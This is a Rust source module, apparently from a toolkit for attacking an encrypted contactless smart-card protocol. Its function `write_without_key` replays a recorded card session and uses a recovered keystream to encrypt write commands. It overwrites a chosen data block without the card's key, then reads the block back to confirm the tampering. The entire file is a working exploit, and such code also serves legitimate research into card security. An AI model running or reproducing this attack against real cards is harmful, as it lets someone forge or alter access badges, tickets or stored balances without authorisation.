//! Writing a block without the key.

use alloc::string::String;

use super::dump::{Replayer, FIRST_ANSWER_START};
use super::keystream::RecoveredKeystream;
use super::replay::{AttackOptions, ReplayContext};
use super::{AttackError, FIRST_COMMAND_START};
use crate::commands::{Command, ACK};
use crate::framing::{check_crc, with_crc, FrameKind, WireBits};
use crate::layout::Block;
use crate::session::AttackerPort;
use crate::tracefmt::Trace;

/// Keystream index of the 18-byte data frame of a write.
const WRITE_DATA_START: usize = FIRST_ANSWER_START + 4;
/// Last keystream index a write needs: the parity peek after the data frame.
const WRITE_LAST_INDEX: usize = WRITE_DATA_START + 18 * 8;

/// Replays and counts of a completed write.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct WriteReport {
    pub attempts: u64,
    pub replays: u64,
}

fn nibble(ks: &RecoveredKeystream, start: usize, reply: Option<WireBits>, what: &'static str) -> Result<Option<u8>, AttackError> {
    let reply = reply.ok_or(AttackError::NoAnswer(what))?;
    if reply.kind() != Some(FrameKind::Nibble4) {
        return Err(AttackError::Verification(String::from("expected a 4-bit answer")));
    }
    Ok(ks.decrypt_partial(start, &reply).0[0])
}

/// Writes `data` to `block` in a replay of the recorded session, then reads
/// it back in another replay. `ks` must cover the write command, its ACK and
/// the data frame: keystream indices up to and including 276 from the start
/// of the session.
pub fn write_without_key<P: AttackerPort + ?Sized>(
    port: &mut P,
    trace: &Trace,
    ks: &RecoveredKeystream,
    block: usize,
    data: Block,
    opts: &AttackOptions,
) -> Result<WriteReport, AttackError> {
    let gap = ks.first_gap(FIRST_COMMAND_START);
    if gap <= WRITE_LAST_INDEX {
        return Err(AttackError::Gap { index: gap });
    }
    let ctx = ReplayContext::from_trace(trace)?;
    let mut r = Replayer::new(&ctx, opts, alloc::vec::Vec::new())?;
    let code = |c: Command| opts.commands.code(c);

    r.replay(port)?;
    let cmd = ks.encrypt_bytes(FIRST_COMMAND_START, &with_crc(&[code(Command::Write), block as u8]))?;
    match nibble(ks, FIRST_ANSWER_START, port.send(&cmd), "write command")? {
        Some(ACK) => {}
        Some(n) => return Err(AttackError::Nack(n)),
        None => return Err(AttackError::Gap { index: FIRST_ANSWER_START }),
    }
    let frame = ks.encrypt_bytes(WRITE_DATA_START, &with_crc(&data))?;
    match nibble(ks, WRITE_LAST_INDEX, port.send(&frame), "write data")? {
        Some(ACK) | None => {}
        Some(n) => return Err(AttackError::Nack(n)),
    }

    r.replay(port)?;
    let read = ks.encrypt_bytes(FIRST_COMMAND_START, &with_crc(&[code(Command::Read), block as u8]))?;
    let answer = port.send(&read).ok_or(AttackError::NoAnswer("verifying read"))?;
    let (bytes, _) = ks.decrypt_partial(FIRST_ANSWER_START, &answer);
    let bytes: Option<alloc::vec::Vec<u8>> = bytes.into_iter().collect();
    match bytes {
        Some(b) if b.len() == 18 && check_crc(&b) && b[..16] == data => {
            Ok(WriteReport { attempts: r.attempts, replays: r.replays })
        }
        _ => Err(AttackError::Verification(String::from("block does not read back as written"))),
    }
}
